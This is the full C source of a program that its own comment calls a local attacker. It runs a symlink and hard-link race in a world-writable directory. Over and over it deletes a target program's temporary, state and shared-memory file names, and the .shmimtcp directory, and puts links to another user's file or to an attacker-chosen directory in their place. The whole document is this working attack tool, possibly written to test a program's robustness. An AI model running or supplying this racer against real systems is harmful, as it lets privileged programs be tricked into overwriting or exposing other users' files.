/*
 * A local attacker: in directories that anyone may write to, it puts symbolic and hard links to a file of
 * another user's, or links to a directory, in place of every name that a program uses for a while.
 *
 *     racer STREAMS FILE DIRECTORY
 *
 * Runs until it is killed; each second it prints how many names it has swapped.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static long swapped;
static const char *file;

static int ends(const char *name, const char *end) {
    size_t n = strlen(name), m = strlen(end);
    return n >= m && strcmp(name + n - m, end) == 0;
}

static int is_target(const char *name) {
    return ends(name, ".tmp") || ends(name, ".new") || ends(name, ".restart") || ends(name, ".json")
        || strncmp(name, "proc.", 5) == 0 || strncmp(name, ".processinfo", 12) == 0
        || ends(name, "g.im.shm");
}

/* Every third time by a hard link, where the kernel lets it. */
static void swap(int dir, const char *name) {
    if (unlinkat(dir, name, 0) != 0)
        return;
    if (swapped % 3 != 0 || linkat(AT_FDCWD, file, dir, name, 0) != 0)
        symlinkat(file, dir, name);
    swapped++;
}

static void attack(const char *path) {
    DIR *all = opendir(path);
    struct dirent *e;
    if (all == NULL)
        return;
    while ((e = readdir(all)) != NULL)
        if (e->d_type == DT_REG && is_target(e->d_name))
            swap(dirfd(all), e->d_name);
    closedir(all);
}

int main(int argc, char **argv) {
    if (argc != 4 || chdir(argv[1]) != 0)
        return 2;
    file = argv[2];
    time_t told = time(NULL);
    for (long i = 0;; i++) {
        attack(".");
        attack(".shmimtcp");
        if (i % 64 == 0) { /* the directory of states: away with it, and a link in its place for a while */
            char gone[64];
            snprintf(gone, sizeof gone, "gone-%ld", i);
            struct stat is;
            int away = time(NULL) % 3 == 0; /* longer than from one state to the next */
            if (lstat(".shmimtcp", &is) == 0 && S_ISLNK(is.st_mode)) {
                if (away)
                    unlink(".shmimtcp");
            } else if (rename(".shmimtcp", gone) == 0 || !away) {
                symlink(argv[3], ".shmimtcp");
                swapped++;
            }
        }
        if (time(NULL) != told) {
            told = time(NULL);
            printf("swapped %ld\n", swapped);
            fflush(stdout);
        }
    }
}
